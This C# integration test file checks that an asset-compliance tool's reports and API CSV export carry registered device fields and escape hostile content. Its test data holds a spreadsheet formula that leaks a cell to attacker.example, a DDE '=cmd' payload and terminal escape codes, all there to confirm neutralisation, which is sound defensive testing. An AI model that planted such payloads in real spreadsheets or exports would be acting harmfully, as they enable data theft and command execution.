using System.Globalization;
using System.Text;
using System.Text.Json;
using System.Text.Json.Nodes;
using AssetCompliance.Api;
using AssetCompliance.Azure.Tables;
using AssetCompliance.Cli;
using AssetCompliance.Core.State;
using CsvHelper;

namespace AssetCompliance.Integration.Tests;

/// <summary>
/// Reports show what the register said beside each verdict (site name, manufacturer, model, MAC as written, line),
/// in every format of <c>check</c> and in the API's CSV export, with hostile text escaped wherever it is rendered; and
/// a file of events is reported per device at the revision the pipeline would keep.
/// </summary>
public sealed class RegisteredColumnsTests
{
    private const string Header = "asset_id,department,manufacturer,model,serial_number,mac_address,device_type,site_id,site_name,site_sensitive,network_segment,installed_on,status";
    private const string Formula = "=HYPERLINK(\"http://attacker.example/?leak=\"&A1,\"Click\")";
    private const string Escape = "Reception \u001b[2J\u001b[31mRED";
    private static readonly string LongModel = "DS-2CD2143G2-I " + new string('X', 285);

    private static Task<(int Exit, string Output, string Errors)> CheckAsync(string content, string format, string extension = ".csv") =>
        CheckCommandTests.CheckAsync(content, format, extension);

    /// <summary>The CSV's records by header name, read with the CSV library the register reader uses (quotes and all).</summary>
    internal static List<Dictionary<string, string>> ParseCsv(string csv)
    {
        var header = csv[..csv.IndexOf('\n', StringComparison.Ordinal)].TrimEnd('\r').Split(','); // header names hold no quotes
        var records = new List<Dictionary<string, string>>();
        using var reader = CsvReader.FromText(csv);
        while (reader.Read())
        {
            records.Add(header.ToDictionary(name => name, name => reader.GetString(name)));
        }

        return records;
    }

    private static string Hostile() => string.Join("\n", Header,
        // A formula, an escape sequence in the site name, a model over the contract's 256 characters, a MAC in a register-only notation.
        $"HO-1,HO,\"{Formula.Replace("\"", "\"\"", StringComparison.Ordinal)}\",{LongModel},S1,AC CC 8E 0A 1B 2C,camera,HO-SITE,{Escape},true,segregated,2023-01-01,in-service",
        "HO-2,HO,Hikvision,DS-2CD2143G2-I,S2,4.419E+11,camera,HO-SITE,+44 Marsham Street,true,segregated,2023-01-01,in-service",
        "HO-3,HO,@Axis,-P3245,S3,accc.8e0a.1b2c,camera,,,,segregated,2023-01-01,in-service") + "\n";

    [Fact]
    public async Task Json_carries_what_the_register_said_in_full_beside_the_verdict()
    {
        var (exit, json, _) = await CheckAsync(Hostile(), "json");

        Assert.Equal(CheckCommand.ExitNonCompliant, exit);
        using var document = JsonDocument.Parse(json);
        var results = document.RootElement.GetProperty("results").EnumerateArray().ToDictionary(r => r.GetProperty("assetId").GetString()!);
        var first = results["HO-1"].GetProperty("registered");
        Assert.Equal(2, results["HO-1"].GetProperty("line").GetInt32());
        Assert.Equal(Formula, first.GetProperty("manufacturer").GetString());
        Assert.Equal(LongModel, first.GetProperty("model").GetString()); // 300 characters, whole, although unread for the verdict
        Assert.Equal(300, first.GetProperty("model").GetString()!.Length);
        Assert.Equal("AC CC 8E 0A 1B 2C", first.GetProperty("macAddress").GetString());
        Assert.Equal(Escape, first.GetProperty("siteName").GetString());
        Assert.Equal("HO-SITE", first.GetProperty("siteId").GetString());
        var second = results["HO-2"].GetProperty("registered");
        Assert.Equal(("NonCompliant", "4.419E+11"), (results["HO-2"].GetProperty("status").GetString(), second.GetProperty("macAddress").GetString()));
        var third = results["HO-3"].GetProperty("registered");
        Assert.Equal(JsonValueKind.Null, third.GetProperty("siteName").ValueKind);
        Assert.Equal(JsonValueKind.Null, third.GetProperty("siteId").ValueKind);
        Assert.Equal("accc.8e0a.1b2c", third.GetProperty("macAddress").GetString());
        Assert.Equal(JsonValueKind.Null, document.RootElement.GetProperty("summary").GetProperty("eventsRead").ValueKind);
    }

    [Fact]
    public async Task Csv_carries_the_registered_columns_whole_with_every_formula_neutralised()
    {
        var (_, csv, _) = await CheckAsync(Hostile(), "csv");

        Assert.EndsWith(",site_name,manufacturer,model,mac_address", csv.Split('\n')[0]);
        var rows = ParseCsv(csv).ToDictionary(r => r["asset_id"]);
        Assert.Equal("2", rows["HO-1"]["line"]);
        Assert.Equal("'" + Formula, rows["HO-1"]["manufacturer"]);
        Assert.Equal(LongModel, rows["HO-1"]["model"]);
        Assert.Equal("AC CC 8E 0A 1B 2C", rows["HO-1"]["mac_address"]);
        Assert.Equal(Escape, rows["HO-1"]["site_name"]); // CSV keeps text as it is; only a terminal needs it shown
        Assert.Equal("'+44 Marsham Street", rows["HO-2"]["site_name"]);
        Assert.Equal("4.419E+11", rows["HO-2"]["mac_address"]);
        Assert.Equal(("'@Axis", "'-P3245", ""), (rows["HO-3"]["manufacturer"], rows["HO-3"]["model"], rows["HO-3"]["site_name"]));
        // No field of any row may start a formula, whichever column it is in.
        Assert.All(rows.Values.SelectMany(r => r.Values), v => Assert.False(v.Length > 0 && v[0] is '=' or '+' or '-' or '@' or '\t' or '\r', v));
    }

    [Fact]
    public async Task The_table_shows_the_registered_values_under_each_verdict_escaped_and_cut_to_fit_120_columns()
    {
        var (_, table, _) = await CheckAsync(Hostile(), "table");

        Assert.DoesNotContain('\u001b', table);
        var lines = table.Split('\n');
        var registered = lines.Single(l => l.StartsWith("  line 2: ", StringComparison.Ordinal));
        Assert.Contains(Formula[..10], registered); // a terminal runs no formulas: shown as written, cut
        Assert.Contains("model DS-2CD2143G2-I XXXX", registered);
        Assert.Contains("…", registered);
        Assert.DoesNotContain(new string('X', 100), table);
        Assert.Contains("MAC AC CC 8E 0A 1B 2C", registered);
        Assert.Contains("at Reception \\u001B[2J", registered); // the escape shown, not obeyed; the line then cut to fit
        Assert.EndsWith("…", registered);
        Assert.Contains("  line 3: Hikvision, model DS-2CD2143G2-I, MAC 4.419E+11, at +44 Marsham Street", lines);
        Assert.Contains("  line 4: @Axis, model -P3245, MAC accc.8e0a.1b2c", lines);
        // The verdict line is above its registered line.
        Assert.StartsWith("HO-1 ", lines[Array.IndexOf(lines, registered) - 1], StringComparison.Ordinal);
        Assert.All(lines.Where(l => l.StartsWith("  line ", StringComparison.Ordinal)), l => Assert.InRange(l.Length, 1, 118));
    }

    [Fact]
    public void The_registered_line_is_cut_whatever_the_cells_hold_and_never_splits_a_surrogate_pair()
    {
        var wide = string.Concat(Enumerable.Repeat("😀", 200));
        var line = TableCheckReport.Registered(99_999, new AssetCompliance.Core.Registers.RegisteredText(null, wide, wide, wide, wide));

        Assert.InRange(line.Length, 1, TableCheckReport.Width);
        Assert.EndsWith("…", line);
        Assert.False(char.IsHighSurrogate(line[^2]));
        Assert.Equal("  line 7: no manufacturer, model, MAC or site registered", TableCheckReport.Registered(7, new(null, null, null, null, null)));
    }

    [Fact]
    public void Columns_meaning_the_same_have_the_same_names_in_check_and_in_the_api_export()
    {
        var shared = CsvCheckReport.Columns.Intersect(AssetListApi.CsvColumns).ToArray();

        Assert.Equal(["asset_id", "department", "status", "severity", "rule", "vendor", "jurisdiction", "subject_to_nil", "relabel_suspected", "site_name", "manufacturer", "model", "mac_address"], shared);
        Assert.Equal(ReportCsv.RegisteredColumns, CsvCheckReport.Columns.TakeLast(4));
        Assert.Equal(ReportCsv.RegisteredColumns, AssetListApi.CsvColumns.TakeLast(4));
    }

    [Fact]
    public async Task A_workbook_row_is_shown_as_excel_shows_its_cells_a_mac_turned_into_a_number_too()
    {
        object?[] header = [.. AssetCompliance.Core.Registers.RegisterReader.CsvHeader];
        var workbook = new AssetCompliance.Testing.XlsxWorkbook().Sheet("Cameras", header,
            ["CAM-1", "HO", "=cmd|' /C calc'!A0", new AssetCompliance.Testing.XlsxWorkbook.Inline("DS-2CD2143G2-I"), 1L, 123456789012L, "camera", "HO-SITE", "Marsham Street", true, "segregated", new DateTime(2023, 1, 1), "in-service"]).ToBytes();

        var (_, json, _) = await CheckCommandTests.CheckAsync(workbook, "json", ".xlsx");
        var (_, csv, _) = await CheckCommandTests.CheckAsync(workbook, "csv", ".xlsx");

        var registered = JsonDocument.Parse(json).RootElement.GetProperty("results")[0].GetProperty("registered");
        Assert.Equal(("=cmd|' /C calc'!A0", "1.23457E+11", "Marsham Street"),
            (registered.GetProperty("manufacturer").GetString(), registered.GetProperty("macAddress").GetString(), registered.GetProperty("siteName").GetString()));
        var row = ParseCsv(csv).Single();
        Assert.Equal(("'=cmd|' /C calc'!A0", "1.23457E+11", "2"), (row["manufacturer"], row["mac_address"], row["line"])); // Excel's row number
    }

    // JSON Lines: one device per asset, at the revision the pipeline keeps.

    private static string Event(string assetId, long revision, string type = "asset.device.upserted", string manufacturer = "Axis Communications AB",
        string model = "P3245-LVE", string? mac = null, string id = "")
    {
        var data = new JsonObject { ["assetId"] = assetId, ["department"] = "HO", ["revision"] = revision };
        if (type == "asset.device.upserted")
        {
            data["manufacturer"] = manufacturer;
            data["model"] = model;
            data["deviceType"] = "camera";
            data["site"] = new JsonObject { ["id"] = "HO-2MS", ["name"] = "2 Marsham Street", ["sensitive"] = true };
            data["networkSegment"] = "segregated";
            if (mac is not null) data["macAddress"] = mac;
        }

        return new JsonObject
        {
            ["specversion"] = "1.0", ["id"] = id.Length > 0 ? id : $"{assetId}-{revision}-{type}-{manufacturer}", ["source"] = "/departments/HO/asset-register",
            ["type"] = type, ["subject"] = assetId, ["time"] = "2026-11-20T09:00:00Z", ["datacontenttype"] = "application/json", ["data"] = data,
        }.ToJsonString();
    }

    private static string Jsonl(params string[] lines) => string.Join("\n", lines) + "\n";

    [Fact]
    public async Task Events_are_reported_per_device_at_the_highest_revision_whatever_their_order_and_a_removal_after_an_upsert_removes()
    {
        var file = Jsonl(
            Event("A", 3, mac: "ac-cc-8e-0a-1b-2c"),              // line 1: the latest of A, first in the file
            Event("A", 1, manufacturer: "Hikvision"),               // older revisions later in the file change nothing
            Event("A", 2, manufacturer: "Hikvision"),
            Event("B", 1, manufacturer: "Hikvision", model: "DS-2CD2143G2-I"),
            Event("B", 2, type: "asset.device.removed"),          // line 5: B is removed, and still says what it was
            Event("C", 5, type: "asset.device.removed"),          // a removal before an older upsert: still removed
            Event("C", 4, manufacturer: "Hikvision"),
            Event("E", 1), Event("E", 1));                          // an exact repeat (redelivery) is no conflict

        var (exit, json, errors) = await CheckAsync(file, "json", ".jsonl");
        var (_, table, _) = await CheckAsync(file, "table", ".jsonl");
        var (_, csv, _) = await CheckAsync(file, "csv", ".jsonl");

        Assert.Equal(CheckCommand.ExitClean, exit); // several revisions of one device are what an event file holds: no warnings
        using var document = JsonDocument.Parse(json);
        var results = document.RootElement.GetProperty("results").EnumerateArray().ToArray();
        Assert.Equal(["A", "B", "C", "E"], results.Select(r => r.GetProperty("assetId").GetString()));
        var byId = results.ToDictionary(r => r.GetProperty("assetId").GetString()!);
        Assert.Equal(("Compliant", 1, "Axis Communications AB", "ac-cc-8e-0a-1b-2c"), (byId["A"].GetProperty("status").GetString(), byId["A"].GetProperty("line").GetInt32(),
            byId["A"].GetProperty("registered").GetProperty("manufacturer").GetString(), byId["A"].GetProperty("registered").GetProperty("macAddress").GetString()));
        Assert.Equal(("Removed", 5, "Hikvision", "DS-2CD2143G2-I"), (byId["B"].GetProperty("status").GetString(), byId["B"].GetProperty("line").GetInt32(),
            byId["B"].GetProperty("registered").GetProperty("manufacturer").GetString(), byId["B"].GetProperty("registered").GetProperty("model").GetString()));
        Assert.Equal("hikvision", byId["B"].GetProperty("vendor").GetProperty("key").GetString()); // the merged device is judged, as the processor does
        Assert.Equal(("Removed", 6), (byId["C"].GetProperty("status").GetString(), byId["C"].GetProperty("line").GetInt32()));
        Assert.Empty(byId["E"].GetProperty("warnings").EnumerateArray());
        var summary = document.RootElement.GetProperty("summary");
        Assert.Equal((9, 4), (summary.GetProperty("eventsRead").GetInt32(), summary.GetProperty("devices").GetInt32()));
        Assert.Contains("9 events for 4 devices", errors);

        Assert.Contains("Read as JSON Lines of events, UTF-8: 9 events read, for 4 devices, each reported at its last revision.", table);
        Assert.Contains("4 devices: 2 Compliant, 2 Removed;", table);
        Assert.Contains("  line 5: Hikvision, model DS-2CD2143G2-I, at 2 Marsham Street", table);
        Assert.Equal(["A", "B", "C", "E"], ParseCsv(csv).Select(r => r["asset_id"]));
        Assert.Equal("Hikvision", ParseCsv(csv).Single(r => r["asset_id"] == "B")["manufacturer"]);
    }

    [Fact]
    public async Task Two_different_events_of_one_revision_fail_closed_the_worse_verdict_reported_with_a_warning_naming_both_lines()
    {
        // The pipeline keeps whichever arrives first: check cannot know which, so it never reports the better one.
        var (exit, json, errors) = await CheckAsync(Jsonl(Event("D", 2), Event("D", 2, manufacturer: "Hikvision", model: "DS-2CD2143G2-I"), Event("D", 1)), "json", ".jsonl");

        Assert.Equal(CheckCommand.ExitNonCompliant, exit);
        using var document = JsonDocument.Parse(json);
        var d = document.RootElement.GetProperty("results").EnumerateArray().Single();
        Assert.Equal(("NonCompliant", 2, "Hikvision"), (d.GetProperty("status").GetString(), d.GetProperty("line").GetInt32(), d.GetProperty("registered").GetProperty("manufacturer").GetString()));
        var warning = d.GetProperty("warnings").EnumerateArray().Single();
        Assert.Equal(("revision", "2", true), (warning.GetProperty("column").GetString(), warning.GetProperty("value").GetString(), warning.GetProperty("unread").GetBoolean()));
        Assert.Contains("lines 1, 2", warning.GetProperty("message").GetString());
        Assert.Contains(":2: warning: D: revision '2' is the revision of 2 events with different content", errors);

        // A tie between a device in service and its removal is reported in service, and never clean.
        var (tieExit, tie, _) = await CheckAsync(Jsonl(Event("F", 3, type: "asset.device.removed"), Event("F", 3)), "json", ".jsonl");
        Assert.Equal(CheckCommand.ExitNeedsReview, tieExit);
        Assert.Equal("Compliant", JsonDocument.Parse(tie).RootElement.GetProperty("results")[0].GetProperty("status").GetString());

        // A later revision settles it: the conflict was only about revision 2.
        var (settledExit, _, _) = await CheckAsync(Jsonl(Event("D", 2), Event("D", 2, manufacturer: "Hikvision"), Event("D", 3)), "json", ".jsonl");
        Assert.Equal(CheckCommand.ExitClean, settledExit);
    }

    [Fact]
    public async Task Bad_lines_of_an_event_file_still_cost_the_exit_and_the_summary_counts_only_events_read()
    {
        var (exit, json, _) = await CheckAsync(Jsonl(Event("A", 1), "{not json", Event("A", 2)), "json", ".jsonl");

        Assert.Equal(CheckCommand.ExitError, exit);
        var summary = JsonDocument.Parse(json).RootElement.GetProperty("summary");
        Assert.Equal((2, 1, 1), (summary.GetProperty("eventsRead").GetInt32(), summary.GetProperty("devices").GetInt32(), summary.GetProperty("rowsNotRead").GetInt32()));
    }
}

/// <summary>The API's CSV export carries what the register said, under check's column names, formula-safe, against Azurite.</summary>
[Collection(AzuriteCollection.Name)]
public sealed class AssetExportColumnsTests(AzuriteFixture azurite)
{
    private static string Upsert(string assetId, string manufacturer, string? model, string? mac, string siteName)
    {
        var node = JsonNode.Parse(TestEvents.Upsert("HO", assetId, 1, manufacturer: manufacturer, mac: mac))!;
        node["data"]!["model"] = model;
        node["data"]!["site"]!["name"] = siteName;
        return node.ToJsonString();
    }

    [Fact]
    public async Task The_csv_export_has_the_registered_site_manufacturer_model_and_mac_as_sent_escaped()
    {
        var store = await azurite.CreateStoreAsync();
        const string formula = "=HYPERLINK(\"http://attacker.example\",\"x\")";
        await TestEvents.Processor(store).ProcessAsync(
        [
            TestEvents.Message(Upsert("X1", formula, "DS-2CD2143G2-I", "aabb.ccdd.eeff", "Reception, \"North\" wing")),
            TestEvents.Message(Upsert("X2", "Axis Communications AB", null, null, "-1 basement")),
        ], CancellationToken.None);

        var (status, csv) = await TestHttp.SendAsync(TestHttp.Request(TestEvents.Principal(), "?format=csv"),
            r => new AssetListApi(store, TestEvents.Authorizer()).ListAsync(r, "HO", default));

        Assert.Equal(200, status);
        Assert.Equal(string.Join(',', AssetListApi.CsvColumns), csv.Split('\n')[0].TrimEnd('\r'));
        var rows = RegisteredColumnsTests.ParseCsv(csv).ToDictionary(r => r["asset_id"]);
        Assert.Equal(("'" + formula, "DS-2CD2143G2-I", "aabb.ccdd.eeff", "Reception, \"North\" wing"),
            (rows["X1"]["manufacturer"], rows["X1"]["model"], rows["X1"]["mac_address"], rows["X1"]["site_name"]));
        Assert.Equal(("Axis Communications AB", "", "", "'-1 basement"), (rows["X2"]["manufacturer"], rows["X2"]["model"], rows["X2"]["mac_address"], rows["X2"]["site_name"]));
        Assert.Equal("NonCompliant", rows["X1"]["status"]);

        // The JSON list says the same, unescaped (JSON needs no formula guard).
        var (_, json) = await TestHttp.SendAsync(TestHttp.Request(TestEvents.Principal(), ""), r => new AssetListApi(store, TestEvents.Authorizer()).ListAsync(r, "HO", default));
        var item = JsonDocument.Parse(json).RootElement.GetProperty("items").EnumerateArray().Single(i => i.GetProperty("assetId").GetString() == "X1").GetProperty("registered");
        Assert.Equal((formula, "DS-2CD2143G2-I", "aabb.ccdd.eeff", "Reception, \"North\" wing"), (item.GetProperty("manufacturer").GetString(),
            item.GetProperty("model").GetString(), item.GetProperty("macAddress").GetString(), item.GetProperty("site").GetProperty("name").GetString()));
    }
}
